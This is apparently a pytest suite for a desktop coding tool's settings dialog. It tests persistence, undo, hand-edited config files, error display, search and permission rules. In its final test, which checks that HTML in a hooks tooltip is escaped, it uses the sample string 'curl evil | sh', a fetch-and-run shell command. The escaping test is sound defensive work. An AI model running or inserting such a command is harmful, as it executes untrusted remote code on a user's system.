"""Every setting is written at once, can be taken back, and is there after a restart."""

from __future__ import annotations

import json
import tomllib
from dataclasses import fields
from pathlib import Path
from typing import Any

import pytest
from pydantic import BaseModel
from PySide6.QtGui import QTextDocument
from PySide6.QtWidgets import (
    QAbstractButton,
    QApplication,
    QCheckBox,
    QComboBox,
    QDoubleSpinBox,
    QFontComboBox,
    QLineEdit,
    QListWidget,
    QPlainTextEdit,
    QSpinBox,
    QTableWidget,
)

from core.config.settings import Settings
from core.permissions.models import Approval
from desktop.settings.dialog import PAGES, SettingsDialog
from desktop.settings.preferences import Preferences
from desktop.settings.rows import Table
from tests.desktop.conftest import until
from tests.desktop.window import WindowUnderTest, opened_window


@pytest.fixture(autouse=True)
def plain_look(app: QApplication) -> Any:
    font = app.font()
    yield
    app.setFont(font)


async def settings(person: WindowUnderTest, page: str = "") -> SettingsDialog:
    person.trigger("settings.open")
    dialog = person.desk.panels.settings_desk.dialog
    assert dialog is not None
    dialog.open_at(page)
    await until(lambda: not len(dialog.scope))
    return dialog


def written(person: WindowUnderTest) -> dict[str, Any]:
    file = person.engine.paths.config_file
    return tomllib.loads(file.read_text()) if file.exists() else {}


def test_changes_in_the_window_hold_at_once_and_after_a_restart(
    run_async: Any, no_leaks: None, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    (home / "config.toml").write_text("# mine\nfork = true  # because\n")

    async def change() -> None:
        async with opened_window(home) as person:
            dialog = await settings(person, "appearance")
            choice = person.find(QComboBox, "setting_desktop_scheme")
            choice.setCurrentIndex(choice.findData("dark"))
            choice.activated.emit(choice.currentIndex())
            await until(lambda: person.window.layout_kept.scheme == "dark")
            window_colour = QApplication.palette().window().color()
            assert window_colour.lightness() < 128, "it is dark at once"
            dialog.open_at("sandbox")
            box = person.find(QCheckBox, "setting_sandbox_auto_allow")
            box.click()
            await until(lambda: written(person).get("sandbox_auto_allow") is True)
            dialog.open_at("general")
            assert person.find(QCheckBox, "setting_fork").isChecked()
            person.find(QCheckBox, "setting_background_tasks").click()
            await until(lambda: written(person).get("background_tasks") is False)
            assert "# because" in person.engine.paths.config_file.read_text()
            assert (await person.engine.settings_for(tmp_path)).background_tasks is False
            person.click("undoSetting")
            await until(lambda: "background_tasks" not in written(person))
            await until(lambda: person.find(QCheckBox, "setting_background_tasks").isChecked())

    async def come_back() -> None:
        async with opened_window(home) as person:
            assert person.window.layout_kept.scheme == "dark"
            await settings(person, "appearance")
            assert person.find(QComboBox, "setting_desktop_scheme").currentData() == "dark"
            person.trigger("view.light")
            await until(lambda: person.window.layout_kept.scheme == "light")
            assert written(person)["desktop"]["scheme"] == "light"

    run_async(change())
    run_async(come_back())


def bound(dialog: SettingsDialog) -> dict[str, Any]:
    """Every control that writes a setting, by its name."""
    found = {}
    for kind in (QComboBox, QCheckBox, QSpinBox, QDoubleSpinBox, QLineEdit, QPlainTextEdit):
        for control in dialog.findChildren(kind):
            if control.objectName().startswith("setting_"):
                found[control.objectName()] = control
    return found


def value(control: Any) -> Any:
    if isinstance(control, QFontComboBox):
        return control.currentFont().family()
    if isinstance(control, QComboBox):
        return control.currentData()
    if isinstance(control, QCheckBox):
        return control.isChecked()
    if isinstance(control, (QSpinBox, QDoubleSpinBox)):
        return control.value()
    return control.toPlainText() if isinstance(control, QPlainTextEdit) else control.text()


def use(control: Any) -> None:
    """Change a control as a person would."""
    if isinstance(control, QComboBox):
        control.setCurrentIndex(control.count() - 1)
        control.activated.emit(control.currentIndex())
    elif isinstance(control, QCheckBox):
        control.click()
    elif isinstance(control, (QSpinBox, QDoubleSpinBox)):
        control.stepUp()
    elif isinstance(control, QLineEdit):
        control.setText("/tmp/anything")
        control.setModified(True)
        control.editingFinished.emit()
    else:
        control.setPlainText("/tmp/anything")
        control.document().setModified(True)
        control.left()


def test_every_setting_changed_in_the_window_survives_a_restart(
    run_async: Any, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    wanted: dict[str, Any] = {}

    async def change() -> None:
        async with opened_window(home) as person:
            dialog = await settings(person)
            for page in dialog.pages:
                dialog.open_at(page.name)
                await until(lambda: not len(dialog.scope))
            for name, control in sorted(bound(dialog).items()):
                steps = len(person.engine.setup._changes.done)
                use(control)
                wanted[name] = value(control)
                if wanted[name] != "":
                    await until(lambda n=steps: len(person.engine.setup._changes.done) > n)
                assert dialog.status.kind != "bad", dialog.status.text

    async def come_back() -> None:
        async with opened_window(home) as person:
            dialog = await settings(person)
            for page in dialog.pages:
                dialog.open_at(page.name)
                await until(lambda: not len(dialog.scope))
            assert not dialog.faults.isVisible(), dialog.faults.text
            assert {name: value(control) for name, control in bound(dialog).items()} == wanted

    run_async(change())
    assert len(wanted) > 20
    run_async(come_back())


ELSEWHERE = {
    "provider": "the page of providers",
    "permission": "the page of permissions",
    "agent": "the agent editor",
    "mcp": "a page of its own, or the file",
    "hooks": "a page of its own, or the file",
    "schedule": "a page of its own, or the file",
    "environment": "names and values of any kind: in the file",
    "environment_pass": "in the file, on purpose: it lets keys through to commands",
    "experimental": "in the file until it is no experiment any more",
    "budget": "the dialog of usage",
    "desktop": "the keys of Preferences",
}
"""Settings without a control of their own on a page, and where a person finds them."""


def keys(of: type[BaseModel], above: tuple[str, ...] = ()) -> dict[str, tuple[str, ...]]:
    """Every setting there is, by the name that its control has."""
    found: dict[str, tuple[str, ...]] = {}
    for name, field in of.model_fields.items():
        kind = field.annotation
        if isinstance(kind, type) and issubclass(kind, BaseModel):
            found |= keys(kind, (*above, name))
        else:
            found["setting_" + "_".join((*above, name))] = (*above, name)
    if not above:
        for preference in fields(Preferences):
            found[f"setting_desktop_{preference.name}"] = ("desktop", preference.name)
    return found


def by_hand(control: Any) -> Any:
    """Another value than the one that is shown, as it stands in a file."""
    if isinstance(control, QFontComboBox):
        return control.itemText(control.count() - 1)
    if isinstance(control, QComboBox):
        return control.itemData(control.count() - 1) or "by-hand/model"
    if isinstance(control, QCheckBox):
        return not control.isChecked()
    if isinstance(control, (QSpinBox, QDoubleSpinBox)):
        return control.value() + 3 * control.singleStep()
    return ["/tmp/by-hand"] if isinstance(control, QPlainTextEdit) else "/tmp/by-hand"


def test_every_setting_changed_by_hand_in_the_file_is_shown_after_a_restart(
    run_async: Any, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    file = home / "config.toml"
    known = keys(Settings)
    wanted: dict[str, Any] = {}

    async def look() -> None:
        async with opened_window(home) as person:
            dialog = await settings(person)
            for page in dialog.pages:
                dialog.open_at(page.name)
                await until(lambda: not len(dialog.scope))
            for name, control in bound(dialog).items():
                wanted[name] = by_hand(control)

    async def come_back() -> None:
        async with opened_window(home) as person:
            dialog = await settings(person)
            for page in dialog.pages:
                dialog.open_at(page.name)
                await until(lambda: not len(dialog.scope))
            assert not dialog.faults.isVisible(), dialog.faults.text
            shown = {name: value(control) for name, control in bound(dialog).items()}
            assert shown == {
                name: "\n".join(each) if isinstance(each, list) else each
                for name, each in wanted.items()
            }

    run_async(look())
    missing = {
        key[0] for name, key in known.items() if name not in wanted and key[0] not in ELSEWHERE
    }
    assert not missing, f"no control shows {missing}"
    assert set(wanted) <= set(known)
    lines = [f"{'.'.join(known[name])} = {json.dumps(each)}" for name, each in wanted.items()]
    file.write_text("\n".join(["# by hand", *lines, ""]))
    before = file.read_text()
    run_async(come_back())
    assert file.read_text() == before, "looking at settings writes nothing"


def test_what_is_not_set_shows_its_default_and_can_be_put_back(
    run_async: Any, tmp_path: Path
) -> None:
    async def scenario() -> None:
        async with opened_window(tmp_path / "home") as person:
            dialog = await settings(person, "appearance")
            shown = {name: value(control) for name, control in bound(dialog).items()}
            assert shown["setting_desktop_scheme"] == "system"
            assert shown["setting_desktop_text_size"] == 1.0
            assert shown["setting_desktop_density"] == "normal"
            assert shown["setting_desktop_code_theme"] == "spinney"
            assert shown["setting_max_running_tasks"] == 20
            choice = person.find(QComboBox, "setting_desktop_density")
            use(choice)
            await until(lambda: written(person).get("desktop") == {"density": "roomy"})
            await until(lambda: not len(dialog.scope))
            [reset] = [
                button
                for button in dialog.findChildren(QAbstractButton)
                if button.isVisible() and button.accessibleName().startswith("Density:")
            ]
            reset.click()
            await until(lambda: not written(person).get("desktop"))
            await until(lambda: choice.currentData() == "normal")

    run_async(scenario())


def test_a_change_by_hand_is_seen_in_the_open_window(run_async: Any, tmp_path: Path) -> None:
    home = tmp_path / "home"

    async def scenario() -> None:
        async with opened_window(home) as person:
            await settings(person, "general")
            assert not person.find(QCheckBox, "setting_fork").isChecked()
            (home / "config.toml").write_text('fork = true\n[desktop]\nscheme = "dark"\n')
            await until(lambda: person.find(QCheckBox, "setting_fork").isChecked())
            await until(lambda: person.window.layout_kept.scheme == "dark")

    run_async(scenario())


def test_an_invalid_file_opens_with_its_errors_shown_and_the_rest_working(
    run_async: Any, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    (home / "config.toml").write_text('fork = true\nmax_depth = "deep"\nmodle = "x/y"\n')

    async def scenario() -> None:
        async with opened_window(home) as person:
            shown = person.window.notices.shown
            assert shown is not None
            assert "max_depth" in shown.sentence
            dialog = await settings(person, "general")
            assert dialog.faults.isVisible()
            assert "config.toml:2" in dialog.faults.text
            assert "Did you mean model" in dialog.faults.text
            assert person.find(QCheckBox, "setting_fork").isChecked()
            person.find(QCheckBox, "setting_background_tasks").click()
            await until(lambda: "background_tasks" in written(person))

    run_async(scenario())


def test_a_file_that_is_not_toml_is_never_overwritten(run_async: Any, tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / "config.toml").write_text("fork = tru\n")

    async def scenario() -> None:
        async with opened_window(home) as person:
            dialog = await settings(person, "general")
            assert dialog.faults.kind == "bad"
            person.find(QCheckBox, "setting_background_tasks").click()
            await until(lambda: dialog.status.kind == "bad")
            assert "Mend the file" in dialog.status.text
            assert (home / "config.toml").read_text() == "fork = tru\n"
            await until(lambda: person.find(QCheckBox, "setting_background_tasks").isChecked())

    run_async(scenario())


def test_the_search_leads_to_a_setting_by_any_word(run_async: Any, tmp_path: Path) -> None:
    async def scenario() -> None:
        async with opened_window(tmp_path / "home") as person:
            dialog = await settings(person)
            search = person.find(QLineEdit, "settingsSearch")
            search.setText("proxy")
            found = person.find(QListWidget, "settingsPages")
            assert found.count() == 1
            assert "Proxy" in found.item(0).text()
            await until(lambda: person.visible("setting_network_proxy"))
            search.setText("no such thing anywhere")
            assert "Nothing" in found.item(0).text()
            search.clear()
            assert found.count() == len(PAGES) == len(dialog.pages)

    run_async(scenario())


def test_rules_are_added_tried_and_removed_and_approvals_revoked(
    run_async: Any, tmp_path: Path
) -> None:
    async def scenario() -> None:
        async with opened_window(tmp_path / "home") as person:
            project = await person.engine.open_project(tmp_path)
            await person.engine.store.add_approval(
                Approval(scope="project", scope_id=project.id, permission="bash", pattern="ls *")
            )
            dialog = await settings(person, "permissions")
            page = next(page for page in dialog.pages if page.name == "permissions")
            person.find(QLineEdit, "testSubject").setText("npm test --watch")
            await until(lambda: page.verdict.kind == "warning")  # type: ignore[attr-defined]
            person.find(QLineEdit, "rulePattern").setText("npm test *")
            person.click("addRule")
            await until(lambda: "permission" in written(person))
            table = person.find(QTableWidget, "ruleTable")

            def rows() -> list[str]:
                return [table.item(row, 2).text() for row in range(table.rowCount())]

            await until(lambda: "npm test *" in rows())
            person.find(QLineEdit, "testSubject").setText("npm test -- fast")
            await until(lambda: page.verdict.kind == "good")  # type: ignore[attr-defined]
            table.selectRow(rows().index("npm test *"))
            assert table.item(table.currentRow(), 4).text().startswith("config.toml:")
            person.click("removeRule")
            await until(lambda: "npm test *" not in rows())
            approvals = person.find(QTableWidget, "approvalTable")
            await until(lambda: approvals.item(0, 1).text() == "ls *")
            approvals.selectRow(0)
            page.ensureWidgetVisible(approvals)
            person.click("revokeApproval")
            await until(lambda: approvals.item(0, 1).text() != "ls *")
            assert await person.engine.setup.approvals() == []

    run_async(scenario())


def test_diagnostics_and_sizes_are_shown(run_async: Any, tmp_path: Path) -> None:
    async def scenario() -> None:
        async with opened_window(tmp_path / "home") as person:
            dialog = await settings(person, "about")
            text = person.find(QPlainTextEdit, "diagnosticsText")
            await until(lambda: "Spinney" in text.toPlainText())
            person.click("copyDiagnostics")
            assert "Python" in QApplication.clipboard().text()
            dialog.open_at("data")
            table = person.find(QTableWidget, "dataTable")
            await until(lambda: table.rowCount() == 9)
            assert table.item(1, 2).text() != "0 B"

    run_async(scenario())


def test_text_twice_as_large_still_fits_and_is_scrolled(run_async: Any, tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / "config.toml").write_text("[desktop]\ntext_size = 2.0\n")

    async def scenario() -> None:
        async with opened_window(home) as person:
            dialog = await settings(person, "general")
            assert dialog.width() <= 1400
            for page in dialog.pages:
                dialog.open_at(page.name)
                await until(lambda: not len(dialog.scope))
                for label in page.findChildren(QCheckBox):
                    assert label.height() >= label.fontMetrics().height()
            person.trigger("view.normal")
            await until(lambda: person.window.layout_kept.text_size == 1.0)

    run_async(scenario())


def test_the_palette_finds_settings_and_agents(run_async: Any, tmp_path: Path) -> None:
    from desktop.palette import CommandPalette

    async def scenario() -> None:
        async with opened_window(tmp_path / "home") as person:
            await person.desk.start_demo()
            await until(lambda: person.desk.panels.file_entries())
            person.trigger("view.palette")
            palette = person.window.findChild(CommandPalette)

            def first(text: str) -> str:
                palette.field.setText(text)
                return palette.list.item(0).text()

            assert first("small model") == "Small model"
            assert first("explore") == "explore"
            assert first("basket.py").endswith("basket.py")
            palette.field.setText("small model")
            palette._choose()
            await until(lambda: person.visible("settingsDialog"))
            assert person.visible("setting_small_model")

    run_async(scenario())


def test_preferences_that_cannot_be_used_count_as_not_written() -> None:
    assert Preferences.from_table(
        {"scheme": "pink", "text_size": 99, "sounds": "yes", "density": 3, "font": None}
    ) == Preferences(text_size=2.5)
    assert Preferences.from_table({"text_size": 2}).text_size == 2.0


def test_what_looks_like_html_in_a_table_is_told_as_it_is(run_async: Any) -> None:
    async def live() -> None:
        table = Table("hooks", ["command"])
        command = "<p>npm test</p><!-- curl evil | sh -->"
        table.fill([(command,)], tips=[command])
        tip = QTextDocument()
        tip.setHtml(table.item(0, 0).toolTip())
        assert tip.toPlainText() == command
        table.deleteLater()

    run_async(live())
